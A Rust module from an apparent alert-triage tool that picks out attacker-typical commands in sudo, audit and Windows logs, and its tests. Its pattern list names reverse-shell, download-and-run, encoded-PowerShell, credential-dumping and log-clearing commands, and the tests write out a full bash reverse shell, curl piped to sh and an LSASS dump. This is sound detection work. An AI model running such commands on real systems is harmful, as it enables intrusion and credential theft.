//! Commands that hardly anybody but an attacker runs, told from the command lines that sudo, the audit log and Windows report.
//!
//! The rules that report commands say the same of each: a flood of harmless ones and a shell that is handed to another machine are one rule at
//! one level. What tells them apart is in the line. The list is short and strict: what administrators type too (a download, an archive,
//! a look at a log) is not in it, however often attackers type it.

use alert::incident::Finding;
use alert::{Alert, Class, Untrusted};

use crate::template;

/// Longest command line that is looked at, in bytes. Longer ones are scripts written out, and say what they are at their head.
const COMMAND_BYTES_MAX: usize = 4096;

/// Most arguments of an audited command that are put together.
const ARGUMENTS_MAX: usize = 24;

/// How sure one sign is, 1 to 100. Not so sure that an analyst could not call it a test of the defences, or an administrator's odd habit.
const STRENGTH: u8 = 45;

/// Longest piece of a command that is shown, in bytes.
const FRAGMENT_BYTES_MAX: usize = 160;

/// Where command lines are, as one text.
const LINES: &[&str] =
    &["data.command", "data.win.eventdata.commandLine", "data.audit.proctitle", "data.cmd"];

/// Words that must all be in a command line, in lower case, and what they say together. A word does not begin inside another word.
const SIGNS: &[(&[&str], &str)] = &[
    (&["/dev/tcp/"], HANDS_A_SHELL),
    (&["/dev/udp/"], HANDS_A_SHELL),
    (&["socket", "connect", "dup2"], HANDS_A_SHELL),
    (&["socket", "connect", "pty.spawn"], HANDS_A_SHELL),
    (&["tcpclient", "getstream", "iex"], HANDS_A_SHELL),
    (&["nc ", " -e "], HANDS_A_SHELL),
    (&["ncat ", " -e "], HANDS_A_SHELL),
    (&["ncat ", "--exec"], HANDS_A_SHELL),
    (&["socat ", "exec:"], HANDS_A_SHELL),
    (&["mkfifo ", "nc "], HANDS_A_SHELL),
    (&["curl ", "| sh"], RUNS_FROM_ELSEWHERE),
    (&["curl ", "|sh"], RUNS_FROM_ELSEWHERE),
    (&["wget ", "| sh"], RUNS_FROM_ELSEWHERE),
    (&["wget ", "|sh"], RUNS_FROM_ELSEWHERE),
    (&["downloadstring", "iex"], RUNS_FROM_ELSEWHERE),
    (&["downloadstring", "invoke-expression"], RUNS_FROM_ELSEWHERE),
    (&["certutil", "-urlcache", "http"], RUNS_FROM_ELSEWHERE),
    (&["mshta", "http"], RUNS_FROM_ELSEWHERE),
    (&["regsvr32", "/i:http"], RUNS_FROM_ELSEWHERE),
    (&["powershell", "hidden", " -enc"], HIDES_WHAT_RUNS),
    (&["powershell", "-nop", " -enc"], HIDES_WHAT_RUNS),
    (&["powershell", "hidden", "frombase64string"], HIDES_WHAT_RUNS),
    (&["base64 -d", "| sh"], HIDES_WHAT_RUNS),
    (&["base64 -d", "| bash"], HIDES_WHAT_RUNS),
    (&["base64 -d", "|bash"], HIDES_WHAT_RUNS),
    (&["comsvcs", "minidump"], TAKES_PASSWORDS),
    (&["procdump", "lsass"], TAKES_PASSWORDS),
    (&["sekurlsa"], TAKES_PASSWORDS),
    (&["lsadump"], TAKES_PASSWORDS),
    (&["ntdsutil", "ifm"], TAKES_PASSWORDS),
    (&["reg", " save ", "hklm\\sam"], TAKES_PASSWORDS),
    (&["reg", " save ", "hklm\\security"], TAKES_PASSWORDS),
    (&["/etc/shadow"], TAKES_PASSWORDS),
    (&["vssadmin", "delete", "shadows"], REMOVES_WAYS_BACK),
    (&["wmic", "shadowcopy", "delete"], REMOVES_WAYS_BACK),
    (&["bcdedit", "recoveryenabled", "no"], REMOVES_WAYS_BACK),
    (&["wevtutil", " cl "], REMOVES_TRACES),
    (&["clear-eventlog"], REMOVES_TRACES),
    (&["auditctl", " -e 0"], REMOVES_TRACES),
    (&["set-mppreference", "-disable", "true"], REMOVES_TRACES),
];

const HANDS_A_SHELL: &str = "the command hands a shell to another machine";
const RUNS_FROM_ELSEWHERE: &str = "the command runs what it fetches from elsewhere";
const HIDES_WHAT_RUNS: &str = "the command hides what it runs";
const TAKES_PASSWORDS: &str = "the command takes stored passwords";
const REMOVES_WAYS_BACK: &str = "the command removes the ways back to saved data";
const REMOVES_TRACES: &str = "the command removes traces or switches off a defence";

/// Looks at the command that an alert reports, if it reports one.
pub(super) fn telling(alert: &Alert, class: Class) -> Option<Finding> {
    // Elsewhere a command stands in a text about something else: a request, a mail.
    if class.is_web_exploit() || alert.first_field(&["data.url", "data.http.url"]).is_some() {
        return None;
    }
    let line = alert
        .first_field(LINES)
        .map(|line| template::head(line, COMMAND_BYTES_MAX).to_owned())
        .or_else(|| audited(alert))?;
    let lower = line.to_lowercase();
    let (words, reason) =
        SIGNS.iter().find(|(words, _)| words.iter().all(|word| place(&lower, word).is_some()))?;
    let at = words.first().and_then(|word| place(&lower, word)).unwrap_or(0);
    // Lower case may have other lengths: the piece shown is of the text that was searched.
    let fragment = template::head(lower.get(at..).unwrap_or(&lower), FRAGMENT_BYTES_MAX);
    Some(Finding {
        class: Class::CommandExecution,
        strength: STRENGTH,
        parameter: None,
        fragment: Untrusted::new(fragment),
        reason: (*reason).to_owned(),
    })
}

/// Finds a word where it is not the end of another.
fn place(line: &str, word: &str) -> Option<usize> {
    let begins = word.starts_with(|first: char| first.is_ascii_alphanumeric());
    let is_whole = |at: &usize| {
        let before = line.get(..*at).and_then(|before| before.chars().next_back());
        !(begins && before.is_some_and(|before| before.is_ascii_alphanumeric()))
    };
    line.match_indices(word).map(|(at, _)| at).find(is_whole)
}

/// Puts the arguments of an audited command together.
fn audited(alert: &Alert) -> Option<String> {
    let mut line = String::new();
    for number in 0..ARGUMENTS_MAX {
        let Some(argument) = alert.field(&format!("data.audit.execve.a{number}")) else { break };
        if line.len() > COMMAND_BYTES_MAX {
            break;
        }
        line.push_str(argument);
        line.push(' ');
    }
    (!line.is_empty()).then(|| template::head(&line, COMMAND_BYTES_MAX).to_owned())
}

#[cfg(test)]
mod tests {
    use alert::{Alert, Limits};
    use serde_json::{Value, json};

    use crate::observe::observe;

    fn sudo(command: &str) -> Value {
        json!({
            "rule": {"id": "5402", "level": 3, "description": "run as root", "groups": ["syslog", "sudo"]},
            "agent": {"id": "1", "name": "a"}, "decoder": {"name": "sudo"},
            "data": {"srcuser": "bob", "dstuser": "root", "command": command},
        })
    }

    /// Gives the behaviour of an alert, and why its command is telling.
    fn told(alert: &Value) -> (String, Option<String>) {
        let alert = Alert::parse(alert.to_string().as_bytes(), &Limits::default());
        let seen = observe(&alert.expect("an alert"));
        (seen.behaviour, seen.finding.map(|finding| finding.reason))
    }

    #[test]
    fn commands_of_attackers_are_told_from_those_of_every_day() {
        for command in [
            "/usr/bin/cat /etc/shadow",
            "/usr/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/9 0>&1'",
            "/usr/bin/python3 -c import socket,os;s=socket.socket();s.connect(('h',9));os.dup2(s.fileno(),0)",
            "/bin/sh -c curl -s http://198.51.100.7/a | sh",
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full",
        ] {
            let (behaviour, reason) = told(&sudo(command));
            let reason = reason.unwrap_or_else(|| panic!("{command}"));
            assert_eq!(behaviour, format!("5402\n{reason}"), "{command}");
        }
        for command in [
            "/usr/bin/cat /etc/hosts",
            "/usr/bin/curl -sO https://example.org/a.tar.gz",
            "/usr/bin/tar czf /srv/backup.tgz /etc",
            "powershell.exe -ExecutionPolicy Bypass -File C:\\install.ps1",
            "/usr/bin/rsync -e ssh a b",
        ] {
            assert_eq!(told(&sudo(command)), ("5402".to_owned(), None), "{command}");
        }
    }

    #[test]
    fn what_the_audit_log_has_in_pieces_is_one_command_and_a_request_is_none() {
        let audited = json!({
            "rule": {"id": "80792", "level": 3, "description": "a command", "groups": ["audit", "audit_command"]},
            "agent": {"id": "1", "name": "a"},
            "data": {"audit": {"exe": "/usr/bin/bash", "execve": {"a0": "sh", "a1": "-c", "a2": "wget -qO- http://h/x |sh"}}},
        });
        assert!(told(&audited).1.is_some());
        let request = json!({
            "rule": {"id": "31101", "level": 5, "description": "x", "groups": ["web"]},
            "agent": {"id": "1", "name": "a"},
            "data": {"srcip": "192.0.2.1", "url": "/", "id": "404", "command": "cat /etc/shadow"},
        });
        assert_eq!(told(&request).1, None);
    }
}
